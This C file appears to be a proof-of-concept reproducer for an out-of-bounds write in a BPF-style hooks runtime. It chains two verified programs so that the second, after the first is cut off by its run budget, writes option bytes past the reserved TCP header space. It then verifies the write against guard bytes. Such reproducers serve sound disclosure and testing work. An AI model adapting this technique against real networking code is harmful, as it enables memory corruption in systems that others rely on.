/* Attack (hooks runtime, two programs of one MULTI array at
 * WRITE_HDR_OPT_CB): program A stores an 8-byte option, then spends its
 * run-time budget in bpf_loop and is stopped. hooks_run (hooks_call.c) puts
 * remaining_opt_len back ("room") but not ctx.view.skb_data_end, which
 * hk_store_hdr_opt advanced by 8. Program B then stores 8 bytes at the
 * advanced end with the restored room: 8 bytes past the space the stack
 * reserved for options (here a guard; in tcp_output the payload or what
 * follows the header buffer). Both programs are verified; B alone is
 * harmless. Build: see README, plus hooks and cgroup libraries:
 *   cc ... -I../test/unit/hooks -I../hooks/include -I../hooks -I../hooks/double \
 *      -I../cgroup/include ... hooks/double/libhooks_double.a libhooks.a libbpfvm.a \
 *      libcgroup.a */
#include <stdio.h>
#include <string.h>

#include "cgroup.h"
#include "hk_double.h"
#include "hooks.h"
#include "hooks_int.h"
#include "isa_insn.h"

static char logbuf[8192];

static int attach(struct bpfvm_registry *reg, struct cg_tree *tree, struct cg_node *root,
		  const struct bpfvm_insn *in, size_t n, uint64_t budget)
{
	struct bpfvm_log log = {.level = 1, .buf = logbuf, .size = sizeof logbuf};
	struct bpfvm_load_opts o = {
	    .type = &hooks_sock_ops_type, .jit = true, .run_budget = budget, .log = &log};
	struct bpfvm_prog *p = NULL;
	int err = bpfvm_prog_load(reg, in, n, NULL, 0, &o, &p);
	printf("verifier: %s (%d)\n", err ? logbuf : "accepted", err);
	if (err)
		return err;
	err = cg_attach(tree, root, CG_ATTACH_SOCK_OPS, p, CG_F_ALLOW_MULTI, NULL);
	bpfvm_prog_put(p);
	return err;
}

int main(void)
{
	struct bpfvm_registry *reg;
	struct cg_tree *tree;
	struct hooks *hk;
	struct cg_node *root;
	struct hkd_sock d;
	struct hooks_config cfg = {.lcore = 0, .netns_cookie = 7};
	if (bpfvm_registry_create(&reg) || cg_tree_create(&hooks_cg_prog_ops, 2, &tree))
		return 2;
	cfg.tree = tree;
	cfg.reg = reg;
	if (hooks_create(&cfg, &hk) || cg_lookup(tree, "/", false, &root))
		return 2;
	hkd_init(&d, 10, 55601, 40000, true);
	strcpy(d.cc, "cubic");
	hooks_sock_init(&d.hs, hk, &hkd_ops, root, true);

	/* A: store {254, 8, de ad 01 02 03 04}, then bpf_loop(1000) */
	const struct bpfvm_insn a[] = {
	    /* 0 */ MOV64_X(6, 1),
	    /* 1 */ LDDW(2, 0x04030201adde08feull),
	    /* 3 */ STX(BPF_DW, 10, 2, -8),
	    /* 4 */ MOV64_X(1, 6),
	    /* 5 */ MOV64_X(2, 10),
	    /* 6 */ ALU64_K(BPF_ADD, 2, -8),
	    /* 7 */ MOV64_K(3, 8),
	    /* 8 */ MOV64_K(4, 0),
	    /* 9 */ CALL(143), /* bpf_store_hdr_opt */
	    /* 10 */ MOV64_K(1, 1000),
	    /* 11 */ LD_FUNC(2, 6), /* callback at 18 */
	    /* 13 */ MOV64_K(3, 0),
	    /* 14 */ MOV64_K(4, 0),
	    /* 15 */ CALL(181), /* bpf_loop: the budget of 100 stops it */
	    /* 16 */ MOV64_K(0, 1),
	    /* 17 */ EXIT(),
	    /* 18 */ MOV64_K(0, 0),
	    /* 19 */ EXIT(),
	};
	/* B: store {253, 8, be ef 05 06 07 08} */
	const struct bpfvm_insn b[] = {
	    MOV64_X(6, 1),
	    LDDW(2, 0x08070605efbe08fdull),
	    STX(BPF_DW, 10, 2, -8),
	    MOV64_X(1, 6),
	    MOV64_X(2, 10),
	    ALU64_K(BPF_ADD, 2, -8),
	    MOV64_K(3, 8),
	    MOV64_K(4, 0),
	    CALL(143),
	    MOV64_K(0, 1),
	    EXIT(),
	};
	if (attach(reg, tree, root, a, NINSNS(a), 100) || attach(reg, tree, root, b, NINSNS(b), 0))
		return 2;
	d.hs.cb_flags |= HOOKS_CB_WRITE_HDR_OPT;

	uint8_t hdr[64];
	memset(hdr, 0xee, sizeof hdr); /* 0xee: past the reserved option space */
	memset(hdr, 0, 20);
	hdr[12] = 5 << 4;
	struct hooks_skb skb = {.hdr = hdr, .hdr_len = 20, .skb_len = 20, .flags = 0x10};
	uint32_t reserved = 8;
	uint32_t written = hooks_write_hdr_opt(&d.hs, &skb, reserved, 0);
	printf("reserved %u option bytes at hdr[20..28), written=%u\n", reserved, written);
	printf("hdr[20..40):");
	for (int i = 20; i < 40; i++)
		printf(" %02x", hdr[i]);
	printf("\n");
	int bad = 0;
	for (int i = 28; i < 64; i++)
		bad |= hdr[i] != 0xee;
	printf("%s\n", bad ? "WRITTEN PAST the reserved option space (hdr[28..36) = B's option)"
			   : "nothing past the reserved space");
	hooks_sock_fini(&d.hs);
	cg_node_put(root);
	hooks_destroy(hk);
	cg_tree_destroy(tree);
	bpfvm_registry_destroy(reg);
	return bad;
}
